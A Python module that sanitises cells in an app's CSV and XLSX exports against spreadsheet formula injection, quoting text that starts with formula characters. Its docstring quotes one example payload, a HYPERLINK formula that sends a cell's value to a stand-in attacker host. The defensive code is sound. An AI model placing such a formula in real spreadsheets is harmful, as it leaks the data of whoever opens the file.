"""Cells of every CSV and XLSX file the app writes, made safe to open in a spreadsheet program.

Text that starts with `=`, `+`, `-` or `@` (or a tab or carriage return before one) is read by Excel, WPS and
LibreOffice as a formula, so a listing title, a center name or a reviewer's note such as
`=HYPERLINK("http://evil.example/?"&A1,"点击")` would run in the bureau's spreadsheet (CSV or formula
injection). Following OWASP's rule, such text is written with a leading single quote, which the programs show
as plain text; numbers stay numbers. Every export goes through `safe_row` (or `csv_text`).
"""

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """`value`, with a single quote in front when it is text a spreadsheet would take for a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]


def csv_text(rows: Iterable[Sequence[Any]]) -> str:
    """CSV of `rows`, each cell made safe, with a byte-order mark so spreadsheet programs read the Chinese as
    UTF-8."""
    buffer = io.StringIO()
    csv.writer(buffer).writerows(safe_row(row) for row in rows)
    return "\ufeff" + buffer.getvalue()
